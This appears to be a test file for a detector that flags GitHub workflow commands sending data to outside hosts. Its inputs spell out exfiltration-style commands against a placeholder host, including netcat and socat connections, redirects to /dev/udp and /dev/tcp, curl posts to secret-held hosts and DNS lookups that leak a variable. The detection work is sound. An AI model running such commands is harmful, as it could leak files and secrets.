import { expect, test } from "vitest";
import { type Sending, sendingOf } from "../../../../rules/capabilities/github-step/sendings.ts";
import { scriptsIn } from "./granted.ts";

function sendingsIn(script: string): Sending[] {
  return scriptsIn(script).flatMap((commands) =>
    commands.map(sendingOf).filter((sending) => sending !== null),
  );
}

function hostsIn(script: string): string[] {
  return sendingsIn(script).flatMap(({ hosts }) => hosts.map(({ host }) => host));
}

function unknownIn(script: string): string[] {
  return sendingsIn(script).flatMap(({ hosts }) => hosts.map(({ unknown }) => unknown));
}

test.each([
  ["nc x.example 80"],
  ["ncat -w3 x.example 80"],
  ["nc x.example 80 > answer"],
  ["netcat -vw 3 x.example 80"],
  ["telnet x.example 80"],
  ["nc -i 1 x.example 80"],
  ["nc -p 99 x.example 80"],
  ["nc -q 1 x.example 80"],
  ["nc -s a.example x.example 80"],
  ["nc -X 5 -x my-p x.example 80"],
  ["socat - tcp:x.example:80"],
  ["socat - TCP4:x.example:80"],
  ["socat - openssl:x.example:80"],
  ["socat - udp:x.example:80"],
  ["socat - udp4:x.example:80"],
  ["socat - TCP6-CONNECT:x.example:80"],
  ["socat - UDP-SENDTO:x.example:80"],
  ["socat - udp4-datagram:x.example:80"],
  ["socat - SSL:x.example:80"],
  ["cat f > /dev/udp/x.example/80"],
])("%s sends to its host", (script) => {
  expect(hostsIn(script)).toEqual(["x.example"]);
});

test("a dash within a host's name is no option", () => {
  expect(hostsIn("nc my-label.example 80")).toEqual(["my-label.example"]);
});

test.each([
  ["nc -vz x.example 80"],
  ["nc -vl x.example 80"],
  ["socat - xtcp:x.example:80"],
  ["rsync x.example:f f"],
  ["ncdu x.example"],
  ["cat f > /dev/tcp//80"],
  ["cat f > out/dev/tcp/x.example/80"],
  ["dig $NAME"],
  ["echo $A.x.example.com"],
  ["mydig $A.x.example.com"],
  ["host-report $A.x.example.com"],
  ["curl -d a https://api.github.com/x"],
])("%s is no sending", (script) => {
  expect(sendingsIn(script)).toEqual([]);
});

test.each([
  ["dig"],
  ["nslookup"],
  ["host"],
  ["drill"],
  ["ping"],
  ["resolvectl"],
  ["Resolve-DnsName"],
])("%s sends the name that it looks up", (program) => {
  expect(sendingsIn(`${program} $A.x.example.com`)).toMatchObject([
    {
      hosts: [{ host: "*.x.example.com", unknown: "" }],
      isQuery: false,
      sent: ["$A.x.example.com"],
    },
  ]);
});

test.each([
  ["curl -d a ${{ secrets.hook }}", "the host in secrets.HOOK"],
  ["curl -d a https://${{ secrets.hook }}/in", "the host in secrets.HOOK"],
  ["nc ${{ secrets.hook }} 80", "the host in secrets.HOOK"],
  ["curl -d a https://x${{ secrets.hook }}", "an unknown host"],
])("%s sends to %s", (script, host) => {
  expect(hostsIn(script)).toEqual([host]);
});

test("an unknown host is told by its address, whatever else is said", () => {
  expect(unknownIn("curl -d a $URL")).toEqual(["$URL"]);
  expect(unknownIn("nc -w 3 $HOST 80")).toEqual(["$HOST"]);
  expect(unknownIn("socat - tcp:$HOST:80")).toEqual(["tcp:$HOST:80"]);
  expect(unknownIn("openssl s_client -connect $HOST:443")).toEqual(["$HOST:443"]);
  expect(unknownIn("cat f > /dev/tcp/$HOST/80")).toEqual(["/dev/tcp/$HOST/80"]);
  expect(unknownIn("curl -d a -K conf")).toEqual(["-"]);
  expect(unknownIn("curl --data b -K conf")).toEqual(["-"]);
});
